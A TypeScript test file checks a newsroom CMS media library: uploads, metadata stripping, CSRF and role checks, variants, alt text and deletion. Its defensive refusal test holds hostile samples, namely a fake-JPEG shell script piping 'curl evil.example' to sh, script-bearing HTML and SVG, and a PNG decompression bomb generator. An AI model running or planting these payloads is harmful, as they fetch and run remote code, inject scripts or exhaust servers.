// The media library over real HTTP, on every database: uploads by a signed-in author (refused for
// a contributor and without a CSRF token), variants on disk, metadata removed from every stored
// file, bad files refused with nothing stored, alt text before use, the picker, delete while in
// use, and the public page's srcset.
import { mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { deflateSync } from 'node:zlib'
import * as cheerio from 'cheerio'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, it, describe as suite } from 'vitest'
import {
  addVariants,
  getMediaByIds,
  isUsable,
  recordMedia,
  requireUsableMedia,
} from '../src/media/media.service.ts'
import { PHONE_VARIANT_BUDGET_BYTES } from '../src/media/media-processing.ts'
import { type AdminClient, signedInAs } from './helpers/admin-client.ts'
import { testEngines } from './helpers/databases.ts'
import { makeArticle, makeAuthor, makeSection } from './helpers/factories.ts'
import { startTestApp, type TestApp } from './helpers/test-app.ts'

const SERIAL = 'SN-DATELINE-4471'
const CAMERA = 'Kestrel ProShot'
const SECRET_PLACE = 'Safehouse-Kandahar'

/** A photo-like 3000×2000 JPEG (gradients, texture, grain) carrying GPS, a serial and XMP. */
async function makePhoto(): Promise<Buffer> {
  const width = 3000
  const height = 2000
  const raw = Buffer.alloc(width * height * 3)
  let seed = 7
  const random = () => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff
    return seed / 0x7fffffff
  }
  const texture = Array.from({ length: 200 * 200 }, random)
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const i = (y * width + x) * 3
      const grain =
        (random() - 0.5) * 24 + ((texture[Math.floor(y / 15) * 200 + Math.floor(x / 15)] ?? 0) - 0.5) * 40
      raw[i] = Math.max(0, Math.min(255, (x / width) * 180 + 40 + grain))
      raw[i + 1] = Math.max(0, Math.min(255, (y / height) * 160 + 50 + grain))
      raw[i + 2] = Math.max(0, Math.min(255, 120 + 60 * Math.sin(x / 150) * Math.cos(y / 120) + grain))
    }
  }
  return sharp(raw, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 90 })
    .withExif({
      IFD0: { Make: CAMERA, Model: 'X-100', ImageDescription: SECRET_PLACE },
      IFD2: { BodySerialNumber: SERIAL, CameraOwnerName: 'Reporter Name' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '31/1 37/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '65/1 43/1 0/1',
      },
    })
    .withXmp(
      `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description>${SECRET_PLACE}</dc:description></rdf:Description></rdf:RDF></x:xmpmeta>`,
    )
    .toBuffer()
}

/** A small picture stored on its side, with EXIF saying "turn it": it must come out upright. */
async function makeSidewaysPhoto(): Promise<Buffer> {
  return sharp({ create: { width: 400, height: 200, channels: 3, background: '#3a6ea5' } })
    .jpeg()
    .withMetadata({ orientation: 6, exif: { IFD0: { Make: CAMERA }, IFD2: { BodySerialNumber: SERIAL } } })
    .toBuffer()
}

/** A real decompression bomb: a 20,000 × 20,000 PNG (400 megapixels) of zeros, about 50 KB. */
function makePngBomb(): Buffer {
  const size = 20_000
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
    return c >>> 0
  })
  const crc = (bytes: Buffer) => {
    let c = 0xffffffff
    for (const b of bytes) c = (crcTable[(c ^ b) & 0xff] ?? 0) ^ (c >>> 8)
    return (c ^ 0xffffffff) >>> 0
  }
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const sum = Buffer.alloc(4)
    sum.writeUInt32BE(crc(body))
    return Buffer.concat([length, body, sum])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(size, 0)
  header.writeUInt32BE(size, 4)
  header[8] = 1 // bit depth
  header[9] = 0 // greyscale
  const rows = Buffer.alloc((1 + size / 8) * size) // filter byte + packed bits, all zero
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

async function upload(
  t: TestApp,
  client: AdminClient,
  file: { data: Buffer; name: string; type: string } | undefined,
  fields: Record<string, string> = {},
): Promise<Response> {
  const form = new FormData()
  // The token goes first, as the browser sends it from the upload form.
  if (client.csrf && fields._csrf === undefined) form.append('_csrf', client.csrf)
  for (const [key, value] of Object.entries(fields)) if (value !== '') form.append(key, value)
  if (file) form.append('file', new Blob([new Uint8Array(file.data)], { type: file.type }), file.name)
  return t.get('/admin/media', { method: 'POST', headers: { cookie: client.cookieHeader() }, body: form })
}

async function storedFiles(t: TestApp): Promise<string[]> {
  const root = t.ctx.config.mediaDir
  const entries = await readdir(root, { recursive: true }).catch(() => [] as string[])
  const files: string[] = []
  for (const entry of entries) if ((await stat(path.join(root, entry))).isFile()) files.push(entry)
  return files.map((f) => f.split(path.sep).join('/')).sort()
}

async function mediaCount(t: TestApp): Promise<number> {
  const rows = await t.ctx.db.selectFrom('media').select('id').execute()
  return rows.length
}

function idFromLocation(response: Response): number {
  const match = /^\/admin\/media\/(\d+)\?done=uploaded$/.exec(response.headers.get('location') ?? '')
  if (!match?.[1])
    throw new Error(`unexpected redirect: ${response.status} ${response.headers.get('location')}`)
  return Number(match[1])
}

for (const { engine, isAvailable, label } of testEngines()) {
  suite.skipIf(!isAvailable)(`${label}: media library`, () => {
    let t: TestApp
    let author: AdminClient
    let photo: Buffer
    let photoId: number

    beforeAll(async () => {
      t = await startTestApp(engine)
      ;({ client: author } = await signedInAs(t, 'author'))
      await author.page('/admin/media')
      photo = await makePhoto()
    }, 60_000)
    afterAll(async () => {
      await t?.close()
    })

    it('uploads a photo for a signed-in author and makes every width in AVIF, WebP and JPEG', async () => {
      const response = await upload(
        t,
        author,
        { data: photo, name: 'IMG 2041 (Kandahar).jpg', type: 'image/jpeg' },
        { alt: 'Farmers load melons onto a lorry at dawn', caption: 'The first harvest', credit: 'Staff' },
      )
      expect(response.status).toBe(303)
      photoId = idFromLocation(response)

      const row = await t.ctx.db
        .selectFrom('media')
        .selectAll()
        .where('id', '=', photoId)
        .executeTakeFirstOrThrow()
      expect(row).toMatchObject({ mime_type: 'image/jpeg', width: 3000, height: 2000 })
      expect(row.uploaded_by).not.toBeNull()
      // Unguessable but stable: year/month/<64 random bits>-<slug of the name>; the raw name never.
      expect(row.path).toMatch(/^\d{4}\/\d{2}\/[0-9a-f]{16}-img-2041-kandahar\.jpg$/)

      const variants = await t.ctx.db
        .selectFrom('media_variants')
        .selectAll()
        .where('media_id', '=', photoId)
        .execute()
      const got = variants.map((v) => `${v.width}:${v.mime_type}`).sort()
      const want = [360, 720, 1080, 1600]
        .flatMap((w) => ['image/avif', 'image/webp', 'image/jpeg'].map((type) => `${w}:${type}`))
        .sort()
      expect(got).toEqual(want)
      for (const v of variants) {
        const bytes = await readFile(path.join(t.ctx.config.mediaDir, v.path))
        const meta = await sharp(bytes).metadata()
        expect(meta.width).toBe(v.width)
        expect({ jpeg: 'image/jpeg', webp: 'image/webp', heif: 'image/avif' }[meta.format as string]).toBe(
          v.mime_type,
        )
        expect(bytes.length).toBe(v.bytes)
      }
      const phoneWebp = variants.find((v) => v.width === 360 && v.mime_type === 'image/webp')
      expect(phoneWebp?.bytes).toBeLessThanOrEqual(PHONE_VARIANT_BUDGET_BYTES)
      expect(phoneWebp?.height).toBe(240)
    }, 60_000)

    it('removes EXIF, GPS, serial numbers and XMP from every stored file, the original included', async () => {
      const before = await sharp(photo).metadata()
      expect(before.exif).toBeDefined()
      expect(before.xmp).toBeDefined()
      expect(photo.includes(SERIAL)).toBe(true)

      const sideways = await upload(t, author, {
        data: await makeSidewaysPhoto(),
        name: 'side.jpg',
        type: 'image/jpeg',
      })
      const sidewaysId = idFromLocation(sideways)
      const upright = await t.ctx.db
        .selectFrom('media')
        .selectAll()
        .where('id', '=', sidewaysId)
        .executeTakeFirstOrThrow()
      // Turned upright from the EXIF orientation before the EXIF was dropped.
      expect([upright.width, upright.height]).toEqual([200, 400])

      const files = await storedFiles(t)
      expect(files.length).toBeGreaterThanOrEqual(13 + 4)
      for (const file of files) {
        const bytes = await readFile(path.join(t.ctx.config.mediaDir, file))
        const meta = await sharp(bytes).metadata()
        expect(meta.exif, file).toBeUndefined()
        expect(meta.xmp, file).toBeUndefined()
        expect(meta.iptc, file).toBeUndefined()
        expect(meta.orientation, file).toBeUndefined()
        for (const secret of [SERIAL, CAMERA, SECRET_PLACE, 'Reporter Name', 'Exif\0\0'])
          expect(bytes.includes(secret), `${file} contains ${secret}`).toBe(false)
      }
    }, 60_000)

    it('refuses disguised, damaged, oversized and dangerous files with a clear message, storing nothing', async () => {
      const truncated = photo.subarray(0, Math.floor(photo.length / 3))
      const cases = [
        {
          name: 'holiday.jpg',
          type: 'image/jpeg',
          data: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
          status: 415,
          says: /not a JPEG, PNG, WebP, AVIF or GIF image/,
        },
        {
          name: 'page.jpg',
          type: 'image/jpeg',
          data: Buffer.from('<!doctype html><script>alert(1)</script>'),
          status: 415,
          says: /SVG and HTML are not accepted/,
        },
        {
          name: 'logo.svg',
          type: 'image/svg+xml',
          data: Buffer.from(
            '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
          ),
          status: 415,
          says: /can carry scripts/,
        },
        { name: 'cut.jpg', type: 'image/jpeg', data: truncated, status: 422, says: /damaged or incomplete/ },
        {
          name: 'bomb.png',
          type: 'image/png',
          data: makePngBomb(),
          status: 422,
          says: /more than 100 million pixels/,
        },
        {
          name: 'huge.jpg',
          type: 'image/jpeg',
          data: Buffer.concat([photo, Buffer.alloc(21 * 1024 * 1024)]),
          status: 413,
          says: /larger than 20 MB/,
        },
      ]
      const filesBefore = await storedFiles(t)
      const rowsBefore = await mediaCount(t)
      for (const c of cases) {
        const response = await upload(
          t,
          author,
          { data: c.data, name: c.name, type: c.type },
          { alt: 'Kept in the form' },
        )
        expect(response.status, c.name).toBe(c.status)
        const $ = cheerio.load(await response.text())
        expect($('[role=alert]').text(), c.name).toMatch(c.says)
        expect($('#media-alt').attr('value')).toBe('Kept in the form')
      }
      const missing = await upload(t, author, undefined, { alt: 'x' })
      expect(missing.status).toBe(400)
      expect(await storedFiles(t)).toEqual(filesBefore)
      expect(await mediaCount(t)).toBe(rowsBefore)
    }, 60_000)

    it('refuses a contributor and a form without a CSRF token, storing nothing', async () => {
      const { client: contributor } = await signedInAs(t, 'contributor')
      const before = await mediaCount(t)
      expect((await contributor.get('/admin/media')).status).toBe(403)
      const asContributor = await upload(t, contributor, { data: photo, name: 'a.jpg', type: 'image/jpeg' })
      expect(asContributor.status).toBe(403)
      const noToken = await upload(
        t,
        author,
        { data: photo, name: 'a.jpg', type: 'image/jpeg' },
        { _csrf: '' },
      )
      expect(noToken.status).toBe(403)
      expect(await noToken.text()).toContain('did not come from this site')
      expect(await mediaCount(t)).toBe(before)
    }, 60_000)

    it('requires alt text before an image can be used; the picker lists usable images only', async () => {
      const response = await upload(t, author, {
        data: await makeSidewaysPhoto(),
        name: 'no-alt.jpg',
        type: 'image/jpeg',
      })
      const id = idFromLocation(response)
      await expect(requireUsableMedia(t.ctx, id)).rejects.toMatchObject({
        code: 'MEDIA_ALT_MISSING',
        status: 422,
      })

      const { $ } = await author.page('/admin/media?alt=missing')
      expect($(`a[href="/admin/media/${id}"] .media-badge`).text()).toBe('No alt text')
      expect($('.media-card').length).toBeGreaterThanOrEqual(1)
      expect($(`a[href="/admin/media/${photoId}"]`)).toHaveLength(0)

      const { client: contributor } = await signedInAs(t, 'contributor')
      const picker = async () => {
        const res = await contributor.get('/admin/api/media?q=')
        expect(res.status).toBe(200)
        expect(res.headers.get('content-type')).toContain('application/json')
        return (await res.json()) as { items: { id: number; url: string; thumbUrl: string; alt: string }[] }
      }
      const listed = await picker()
      expect(listed.items.map((i) => i.id)).toContain(photoId)
      expect(listed.items.map((i) => i.id)).not.toContain(id)
      const item = listed.items.find((i) => i.id === photoId)
      expect(item).toMatchObject({
        alt: 'Farmers load melons onto a lorry at dawn',
        caption: 'The first harvest',
        credit: 'Staff',
        width: 3000,
        height: 2000,
      })
      expect(item?.thumbUrl).toMatch(/-360\.webp$/)
      expect((await (await t.get(item?.url ?? '')).arrayBuffer()).byteLength).toBeGreaterThan(0)
      const search = (await (await contributor.get('/admin/api/media?q=MELONS')).json()) as {
        items: { id: number }[]
      }
      expect(search.items.map((i) => i.id)).toEqual([photoId])

      await author.page(`/admin/media/${id}`)
      const saved = await author.post(`/admin/media/${id}`, {
        alt: 'A blue rectangle',
        caption: '',
        credit: '',
      })
      expect(saved.status).toBe(303)
      expect(isUsable(await requireUsableMedia(t.ctx, id))).toBe(true)
      expect((await picker()).items.map((i) => i.id)).toContain(id)
      const audit = await t.ctx.db
        .selectFrom('audit_log')
        .select('action')
        .where('target_id', '=', String(id))
        .execute()
      expect(audit.map((a) => a.action)).toEqual(expect.arrayContaining(['media.uploaded', 'media.updated']))
    }, 60_000)

    it("lets an author edit only their own uploads; an editor may edit anyone's", async () => {
      const { client: other } = await signedInAs(t, 'author')
      await other.page('/admin/media')
      const refused = await other.post(`/admin/media/${photoId}`, { alt: 'Vandalised' })
      expect(refused.status).toBe(403)
      const { client: editor } = await signedInAs(t, 'editor')
      await editor.page(`/admin/media/${photoId}`)
      const long = await editor.post(`/admin/media/${photoId}`, { alt: 'x'.repeat(501) })
      expect(long.status).toBe(422)
      expect(await long.text()).toContain('Alt text is at most 500 characters')
      const row = await t.ctx.db
        .selectFrom('media')
        .select('alt')
        .where('id', '=', photoId)
        .executeTakeFirstOrThrow()
      expect(row.alt).toBe('Farmers load melons onto a lorry at dawn')
    })

    it('refuses to delete an image a story uses, and deletes an unused one with all its files', async () => {
      const sectionId = await makeSection(t.ctx)
      const authorId = await makeAuthor(t.ctx)
      await makeArticle(t.ctx, {
        sectionId,
        authorIds: [authorId],
        featuredMediaId: photoId,
        status: 'draft',
      })
      await author.page(`/admin/media/${photoId}`)
      const refused = await author.post(`/admin/media/${photoId}/delete`, { confirm: 'yes' })
      expect(refused.status).toBe(409)
      expect(await refused.text()).toContain('This image is used by 1 story')
      expect(await mediaCount(t)).toBeGreaterThan(0)

      const response = await upload(t, author, {
        data: await makeSidewaysPhoto(),
        name: 'spare.jpg',
        type: 'image/jpeg',
      })
      const id = idFromLocation(response)
      const paths = [
        (await t.ctx.db.selectFrom('media').select('path').where('id', '=', id).executeTakeFirstOrThrow())
          .path,
        ...(
          await t.ctx.db.selectFrom('media_variants').select('path').where('media_id', '=', id).execute()
        ).map((v) => v.path),
      ]
      expect(paths.length).toBeGreaterThan(1)

      // A picture placed in a story's text (as the editor inserts it) counts as a use too.
      const inBody = await upload(t, author, {
        data: await makeSidewaysPhoto(),
        name: 'in-text.jpg',
        type: 'image/jpeg',
      })
      const inBodyId = idFromLocation(inBody)
      const view = (await getMediaByIds(t.ctx, [inBodyId])).get(inBodyId)
      await makeArticle(t.ctx, {
        sectionId,
        authorIds: [authorId],
        status: 'draft',
        bodyHtml: `<p>Text.</p><figure><img src="${view?.fallbackUrl}" alt="x"></figure>`,
      })
      await author.page(`/admin/media/${inBodyId}`)
      expect((await author.post(`/admin/media/${inBodyId}/delete`, { confirm: 'yes' })).status).toBe(409)

      await author.page(`/admin/media/${id}`)
      const unconfirmed = await author.post(`/admin/media/${id}/delete`, {})
      expect(unconfirmed.status).toBe(422)
      const deleted = await author.post(`/admin/media/${id}/delete`, { confirm: 'yes' })
      expect(deleted.status).toBe(303)
      const files = await storedFiles(t)
      for (const p of paths) expect(files).not.toContain(p)
      const audit = await t.ctx.db
        .selectFrom('audit_log')
        .select('action')
        .where('target_id', '=', String(id))
        .execute()
      expect(audit.map((a) => a.action)).toContain('media.deleted')
      expect(
        await t.ctx.db.selectFrom('media_variants').select('id').where('media_id', '=', id).execute(),
      ).toEqual([])
    }, 60_000)

    it('serves public pages with srcset, sizes and lazy loading for an uploaded featured image', async () => {
      const sectionId = await makeSection(t.ctx, { slug: 'harvest', name: 'Harvest' })
      const authorId = await makeAuthor(t.ctx)
      for (const headline of ['Melon growers count a record year', 'Lorries queue at the border']) {
        await makeArticle(t.ctx, { sectionId, authorIds: [authorId], featuredMediaId: photoId, headline })
      }
      const article = cheerio.load(await (await t.get('/harvest/melon-growers-count-a-record-year')).text())
      const lead = article('.lead-image picture')
      expect(lead.find('source[type="image/avif"]').attr('srcset')).toMatch(
        /-360\.avif 360w, .*-1600\.avif 1600w$/,
      )
      expect(lead.find('source[type="image/webp"]').attr('sizes')).toBeTruthy()
      const img = lead.find('img')
      expect(img.attr('srcset')).toMatch(/-360\.jpg 360w/)
      expect(img.attr('sizes')).toBeTruthy()
      expect(img.attr('alt')).toBe('Farmers load melons onto a lorry at dawn')
      expect([img.attr('width'), img.attr('height')]).toEqual(['3000', '2000'])
      // The lead image is above the fold: loaded at once; every other picture waits until it is near.
      expect(img.attr('loading')).toBe('eager')
      const home = cheerio.load(await (await t.get('/')).text())
      const lazy = home('picture img[loading="lazy"][srcset][sizes]')
      expect(lazy.length).toBeGreaterThan(0)
      const smallest = lazy.first().parent().find('source[type="image/webp"]').attr('srcset')?.split(', ')[0]
      const url = smallest?.split(' ')[0] ?? ''
      const response = await t.get(url)
      expect(response.status).toBe(200)
      expect((await response.arrayBuffer()).byteLength).toBeLessThanOrEqual(PHONE_VARIANT_BUDGET_BYTES)
    })

    it('gives a file recorded without variants (the demo seed) its srcset through addVariants', async () => {
      const jpeg = await sharp({ create: { width: 1200, height: 675, channels: 3, background: '#557799' } })
        .jpeg()
        .toBuffer()
      await mkdir(path.join(t.ctx.config.mediaDir, 'demo'), { recursive: true })
      await writeFile(path.join(t.ctx.config.mediaDir, 'demo/river.jpg'), jpeg)
      const id = await recordMedia(t.ctx, {
        path: 'demo/river.jpg',
        mimeType: 'image/jpeg',
        width: 1200,
        height: 675,
        bytes: jpeg.length,
        alt: 'A river',
      })
      expect((await getMediaByIds(t.ctx, [id])).get(id)?.srcset).toBe('')
      expect(await addVariants(t.ctx, id, { widths: [360, 720], formats: ['webp', 'jpeg'] })).toBe(4)
      const view = (await getMediaByIds(t.ctx, [id])).get(id)
      expect(view?.sources).toEqual([
        { type: 'image/webp', srcset: '/media/demo/river-360.webp 360w, /media/demo/river-720.webp 720w' },
      ])
      expect(view?.srcset).toBe('/media/demo/river-360.jpg 360w, /media/demo/river-720.jpg 720w')
      expect((await t.get('/media/demo/river-360.webp')).status).toBe(200)
    })

    it('shows the library grid with thumbnails and the upload form', async () => {
      const { response, $ } = await author.page('/admin/media')
      expect(response.status).toBe(200)
      expect($('form[enctype="multipart/form-data"] input[name=_csrf]')).toHaveLength(1)
      expect($('form[enctype="multipart/form-data"] input[type=file][name=file]')).toHaveLength(1)
      const thumb = $(`a[href="/admin/media/${photoId}"] img`)
      expect(thumb.attr('src')).toMatch(/-360\.webp$/)
      expect(thumb.attr('loading')).toBe('lazy')
      const css = $('link[href^="/admin/media-assets/"]').attr('href') ?? ''
      expect((await t.get(css)).status).toBe(200)
    })
  })
}
